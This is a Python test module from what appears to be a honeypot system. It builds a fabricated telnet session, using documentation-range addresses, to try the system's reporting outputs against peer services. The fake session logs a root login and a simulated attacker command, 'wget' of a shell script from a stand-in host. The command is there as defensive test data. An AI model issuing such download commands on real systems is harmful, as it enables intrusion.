"""Trying an output: one made-up session, told to its peer as any other, and what the peer answers.

The session is from an address that nobody has (RFC 5737), of a sensor that says what it is. A service that takes
reports of abuse is asked something instead: a made-up report would be a false one.
"""

from __future__ import annotations

import hashlib
import os
import time
from collections.abc import Mapping, Sequence
from dataclasses import replace
from typing import Any, Protocol, runtime_checkable

from eudaemon.events import Endpoint, Event, Fact, IdSource
from eudaemon.events import catalogue as facts
from eudaemon.farm.outputs.batch import Batch, Format, Item
from eudaemon.farm.outputs.peers import Peer
from eudaemon.farm.store import Row, row_of
from eudaemon.farm.store.schema import COLUMNS

SENSOR = "eudaemon-test"
SAMPLE = b"#!/bin/sh\n# Eudaemon: a harmless sample, to test an output with.\n"
_URL = "http://192.0.2.80/test.sh"


@runtime_checkable
class Asked(Protocol):
    """A peer that is asked something when it is tried."""

    def probe(self) -> str:
        """Ask; return what it said. Raises `LaterError`, `RefusedError`."""


class MadeUp:
    """A source that knows one session and one sample."""

    def __init__(self, now_s: float) -> None:
        ids = IdSource(os.urandom)
        session = ids.new(now_s - 2)
        sha256 = hashlib.sha256(SAMPLE).hexdigest()
        said: tuple[Fact, ...] = (
            facts.SessionOpened("tcp", "telnet"),
            facts.LoginTried("root", "test", accepted=True),
            facts.CommandEntered(f"wget {_URL}"),
            facts.DownloadWished(_URL, "wget"),
            facts.DownloadFinished(_URL, "ok", sha256=sha256, size=len(SAMPLE), peer="192.0.2.80"),
            facts.ArtefactKept(sha256, len(SAMPLE), "download", "test.sh", _URL),
            facts.SessionClosed("telnet", "peer", 2.0, 80, 120),
        )
        attacker, local = Endpoint("192.0.2.9", 40226), Endpoint("192.0.2.1", 23)
        self.rows: list[Row] = []
        for number, fact in enumerate(said):
            at_s = now_s - 2 + 2 * number / (len(said) - 1)
            event = Event(ids.new(at_s), at_s, SENSOR, fact, session, attacker, local)
            self.rows.append(row_of(event, now_s))

    def batch(self) -> Batch:
        """Return the session as a batch."""
        return Batch.of_lines([row.line() for row in self.rows], self)

    def sessions(self, _: Sequence[str]) -> list[Mapping[str, Any]]:
        """See `Source`."""
        names = [name for name, _ in COLUMNS[:-1]]
        return [dict(zip(names, row.values, strict=True)) for row in self.rows]

    def sample(self, _: str, bytes_max: int) -> bytes | None:
        """See `Source`."""
        return SAMPLE if len(SAMPLE) <= bytes_max else None

    def was_told(self, _: str, __: float = 0.0) -> bool:
        """See `Source`."""
        return False


def tried(format_: Format, peer: Peer) -> list[str]:
    """Try an output; return what its peer answered. Raises `LaterError`, `RefusedError`."""
    if isinstance(peer, Asked):
        return [peer.probe()]
    items = [_loaded(item) for item in format_.make(MadeUp(time.time()).batch())]
    size = peer.items_max
    return [peer.send(items[first : first + size]) for first in range(0, len(items), size)]


def _loaded(item: Item) -> Item:
    return replace(item, data=SAMPLE) if item.sample else item
